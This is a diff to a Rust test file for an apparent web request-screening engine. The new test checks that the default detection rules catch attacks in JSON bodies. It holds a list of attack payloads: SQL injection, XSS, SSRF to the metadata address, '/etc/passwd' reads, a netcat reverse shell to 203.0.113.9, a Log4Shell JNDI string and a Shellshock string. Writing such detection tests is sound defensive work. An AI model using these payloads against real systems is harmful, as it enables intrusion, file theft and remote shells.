@@ -13,8 +13,11 @@
 //! from read as intersection and difference, so a pattern was gated on
 //! bytes some of its matches lack. Such patterns are now left ungated.
 
+use std::sync::Arc;
+
 use super::sweep_attack::{request, Pair, FORM, JSON};
 use super::{get, sig};
+use crate::engine::{Matcher, Snapshot};
 use crate::http::Transaction;
 
 /// Rules written as `match:` blocks, numbered from 1.
@@ -334,4 +337,114 @@ fn branches_gated_apart_from_the_rest_of_their_pattern() {
             (json(r#"{"q":"whoami","n":"nohup"}"#), &[]),
         ],
     );
+}
+
+/// The default ruleset, with and without its sweeps.
+fn default_pair() -> Pair {
+    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/default");
+    let mut files: Vec<_> = std::fs::read_dir(&dir)
+        .expect("rules/default")
+        .filter_map(|entry| entry.ok().map(|e| e.path()))
+        .filter(|path| path.extension().is_some_and(|ext| ext == "yaml"))
+        .collect();
+    files.sort();
+    let compile = || Snapshot::from_files(&files).expect("the default rules compile");
+    let swept = compile();
+    let mut plain = compile();
+    plain.sweeps.clear();
+    Pair {
+        swept: Matcher::new(Arc::new(swept)).expect("scratch"),
+        plain: Matcher::new(Arc::new(plain)).expect("scratch"),
+    }
+}
+
+/// `text` as a JSON string, quotes included: `"` and `\` escaped, and,
+/// with `raw_controls`, tabs and line breaks left as they are (lenient
+/// servers take them), otherwise escaped too.
+fn json_string(text: &str, raw_controls: bool) -> String {
+    let mut out = String::from("\"");
+    for c in text.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            '\t' | '\n' | '\r' if raw_controls => out.push(c),
+            '\t' => out.push_str("\\t"),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+/// Attack payloads of the default rules' classes as JSON values, under
+/// plain and SSRF parameter names, with each kind of `Content-Type` the
+/// raw-body screen reads differently: the sweeps (the lean database of a
+/// JSON body among them) must find exactly what the values find, and the
+/// JSON cases must each hit.
+#[test]
+fn default_rules_find_the_same_in_json_bodies_with_and_without_sweeps() {
+    let mut pair = default_pair();
+    let payloads = [
+        "admin'--",
+        "admin\"--",
+        "x' or '1'='1",
+        "1 union select password from users",
+        "javascript:alert(1)",
+        "java\tscript:alert(document.cookie)",
+        "java\nscript:alert(1)",
+        "<script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "http://169.254.169.254/latest/meta-data/",
+        "http://127.0.0.1:8080/admin",
+        "0",
+        ";cat /etc/passwd",
+        "$(id)",
+        "a|nc -e /bin/sh 203.0.113.9 4444",
+        "../../../../etc/passwd",
+        "${jndi:ldap://x.example/a}",
+        "{{7*7}}",
+        "() { :; }; /bin/bash -c id",
+        "1;drop table users--",
+    ];
+    let heads = [
+        "POST /p HTTP/1.1\r\nHost: h\r\nContent-Type: application/json",
+        "POST /p HTTP/1.1\r\nHost: h\r\nContent-Type: Application/JSON; charset=utf-8",
+        "POST /p HTTP/1.1\r\nHost: h",
+        "POST /p HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain",
+    ];
+    let mut hit = 0;
+    for payload in payloads {
+        for raw_controls in [false, true] {
+            for name in ["q", "url", "callback"] {
+                let value = json_string(payload, raw_controls);
+                let bodies = [
+                    format!("{{\"{name}\":{value}}}"),
+                    format!("{{\"a\":[1,\"b\"],\"o\":{{\"{name}\":{value}}}, \"z\":null}}"),
+                ];
+                for (head, body) in heads.iter().zip(bodies.iter().cycle()) {
+                    let tx = request(head, body.as_bytes());
+                    let (found, plain) = pair.ids(&tx);
+                    assert_eq!(found, plain, "{head:?} {body:?}");
+                    hit += usize::from(!plain.is_empty());
+                }
+            }
+        }
+    }
+    // The JSON heads (2 of 4) must hit on every payload but "0", which
+    // only the SSRF names make an attack.
+    let expected_at_least = (payloads.len() - 1) * 2 * 3 * 2;
+    assert!(
+        hit >= expected_at_least,
+        "{hit} of at least {expected_at_least} cases hit"
+    );
+    let clean = [
+        r#"{"name":"O'Brien","note":"done -- see \"notes\"","url":"https://example.com/a"}"#,
+        r#"{"title":"JavaScript: The Good Parts","q":"select a plan","n":0}"#,
+    ];
+    for body in clean {
+        let (found, plain) = pair.ids(&request(heads[0], body.as_bytes()));
+        assert_eq!((found, plain), (vec![], vec![]), "{body}");
+    }
 }
